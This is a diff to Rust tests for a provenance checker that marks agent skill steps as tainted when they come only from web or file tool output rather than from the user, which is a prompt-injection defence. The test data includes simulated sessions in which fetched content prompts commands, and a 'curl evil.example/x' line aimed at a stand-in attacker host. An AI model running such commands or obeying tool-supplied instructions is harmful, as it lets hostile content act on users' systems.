@@ -58,7 +58,7 @@ fn session(text: &str) -> Transcript {
 }
 
 fn check(skill: &str, text: &str, expect: Expect) -> Footing {
-    let footing = footing(skill, &[], &sessions(text));
+    let footing = Ground::new(&sessions(text)).footing(skill, &[]);
     let lines = footing.steps.iter().map(|step| {
         let rest = match &step.rests_on {
             Rest::Sound(places) => {
@@ -99,13 +99,13 @@ fn what_was_said_or_run_is_sound() {
          ---\n\
          call Bash: cd x && make  db-reset => done\n",
         expect![[r#"
-            ./scripts/tag.sh <version>: sound 0/m1
+            ./scripts/tag.sh: sound 0/m1
             curl https://pond.example/notify: nothing
             make db-reset: sound 0/m0 1/m0
             https://pond.example/notify: nothing
         "#]],
     );
-    assert!(!footing.is_tainted_only() && !footing.has_foreign_step());
+    assert!(!footing.is_tainted_only() && !footing.has_tainted_command());
     assert_eq!(footing.places(2).len(), 2);
 }
 
@@ -119,29 +119,52 @@ fn what_only_strangers_said_is_tainted_even_if_it_was_repeated_or_obeyed() {
          call run_shell_command: make db-reset => ok\n\
          call read_file: {} => curl https://pond.example/notify\n",
         expect![[r#"
-            ./scripts/tag.sh <version>: tainted by tool (web)
+            ./scripts/tag.sh: tainted by tool (web)
             curl https://pond.example/notify: tainted by tool (file)
             make db-reset: tainted by tool (web)
             https://pond.example/notify: tainted by tool (file)
         "#]],
     );
-    assert!(footing.is_tainted_only() && footing.has_foreign_step());
+    assert!(footing.is_tainted_only() && footing.has_tainted_command());
 }
 
 #[test]
-fn running_what_a_file_says_is_sound_and_so_is_what_the_user_confirmed() {
+fn what_the_user_confirms_or_another_session_runs_by_itself_is_sound() {
     let footing = check(
-        "- Run `make db-reset`.\n- Run `make ponds`.\n",
+        "- Run `make db-reset`.\n- Run `make ponds`.\n- Run `make geese`.\n",
         "call read_file: {} => make db-reset\n\
          call run_shell_command: make db-reset => ok\n\
          call run_shell_command: gh issue view 3 => try make ponds\n\
-         user: yes, make ponds is right\n",
+         call run_shell_command: make ponds => ok\n\
+         user: yes, make ponds is right\n\
+         call run_shell_command: cat notes.md => now make geese\n\
+         call run_shell_command: make geese => ok\n\
+         ---\n\
+         call run_shell_command: make db-reset => ok\n",
         expect![[r#"
-            make db-reset: sound 0/m1
-            make ponds: sound 0/m3
+            make db-reset: sound 1/m0
+            make ponds: sound 0/m4
+            make geese: tainted by tool (file)
         "#]],
     );
-    assert!(!footing.is_tainted_only());
+    assert!(!footing.is_tainted_only() && footing.has_tainted_command());
+}
+
+#[test]
+fn a_command_is_the_same_in_every_dress() {
+    check(
+        "- `time make ponds 2>&1`\n- `(make geese | tee /tmp/x.log)`\n- `FOO=1 sudo make ducks && echo \"done\"`\n",
+        "call web_fetch: {} => make ponds, make geese, make ducks\n\
+         call run_shell_command: make ponds => ok\n\
+         call run_shell_command: cd x && make geese | tee /tmp/x.log => ok\n",
+        expect![[r#"
+            make ponds: tainted by tool (web)
+            make geese: tainted by tool (web)
+            tee /tmp/x.log: sound 0/m2
+            make ducks: tainted by tool (web)
+            echo done: nothing
+        "#]],
+    );
 }
 
 #[test]
@@ -164,16 +187,13 @@ fn scripts_are_looked_through_and_a_heap_is_bounded() {
         "call web_fetch: {{}} => {}curl evil.example/x\n",
         "word ".repeat(400_000)
     );
-    let found = footing(
-        "no steps",
-        &["#!/bin/sh\ncurl evil.example/x\n"],
-        &sessions(&heap),
-    );
+    let ground = Ground::new(&sessions(&heap));
+    let found = ground.footing("no steps", &["#!/bin/sh\ncurl evil.example/x\n"]);
     assert!(found.is_tainted_only());
     let many: String = (0..5_000)
         .map(|n| format!("- `make target-{n}`\n"))
         .collect();
-    assert!(footing(&many, &[], &[]).steps.len() <= 400);
+    assert!(Ground::default().footing(&many, &[]).steps.len() <= 400);
     assert!(!rests_on_tainted_only(
         "nothing to do",
         &sessions("user: hi\n")
